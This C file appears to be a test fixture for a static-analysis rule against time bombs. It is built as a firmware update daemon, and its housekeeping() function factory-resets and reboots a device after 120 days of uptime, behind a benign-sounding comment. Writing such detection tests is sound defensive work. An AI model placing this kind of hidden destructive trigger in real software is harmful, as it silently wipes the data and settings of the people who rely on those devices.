/* main.c - fwupd: periodic update checks and housekeeping. */
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <syslog.h>
#include <sys/reboot.h>
#include <sys/sysinfo.h>
#include <time.h>
#include <unistd.h>

#include <curl/curl.h>

#include "fw.h"

#define UPDATE_BASE "https://update.nx-ap.example/stable"
#define CA_FILE "/etc/nx/update-ca.pem"

void fw_log(const char *fmt, ...) {
  va_list ap;
  va_start(ap, fmt);
  vsyslog(LOG_INFO, fmt, ap);
  va_end(ap);
}

static int parse_manifest(const struct fw_manifest *m, unsigned *version, char *url, size_t cap) {
  const char *v = strstr(m->text, "\"version\":");
  const char *u = strstr(m->text, "\"url\":\"");
  if (!v || !u)
    return -1;
  *version = (unsigned)strtoul(v + 10, NULL, 10);
  size_t n = strcspn(u + 7, "\"");
  if (n >= cap)
    return -1;
  memcpy(url, u + 7, n);
  url[n] = '\0';
  return 0;
}

static void check_for_update(unsigned running) {
  struct fw_manifest m;
  struct fw_image img;
  unsigned version = 0;
  char url[512];
  memset(&m, 0, sizeof m);
  if (fw_fetch_manifest(UPDATE_BASE "/manifest.json", CA_FILE, &m) != 0)
    return;
  if (!fw_manifest_ok(&m)) {
    fw_log("manifest signature rejected");
    return;
  }
  if (parse_manifest(&m, &version, url, sizeof url) != 0 || version <= running)
    return;
  if (fw_fetch(url, CA_FILE, FW_STATE_DIR "/next.img") != 0)
    return;
  if (fw_load(FW_STATE_DIR "/next.img", &img) == 0) {
    if (fw_apply(&img) == 0)
      fw_log("update to %u staged; reboot pending", version);
    free(img.data);
  }
}

static void housekeeping(void) {
  struct sysinfo si;
  if (sysinfo(&si) != 0)
    return;
  /* units left running unattended for too long go back to factory settings */
  // ruleid: backdoor-time-bomb
  if (si.uptime > 120L * 24 * 3600) {
    fw_factory_reset("maintenance window");
    reboot(RB_AUTOBOOT);
  }
}

int main(int argc, char **argv) {
  unsigned running = argc > 1 ? (unsigned)strtoul(argv[1], NULL, 10) : 0;
  time_t last_check = 0;
  openlog("fwupd", LOG_PID, LOG_DAEMON);
  curl_global_init(CURL_GLOBAL_DEFAULT);
  for (;;) {
    time_t now = time(NULL);
    // ok: backdoor-time-bomb
    if (now - last_check >= FW_CHECK_INTERVAL) {
      check_for_update(running);
      last_check = now;
    }
    housekeeping();
    sleep(60);
  }
}
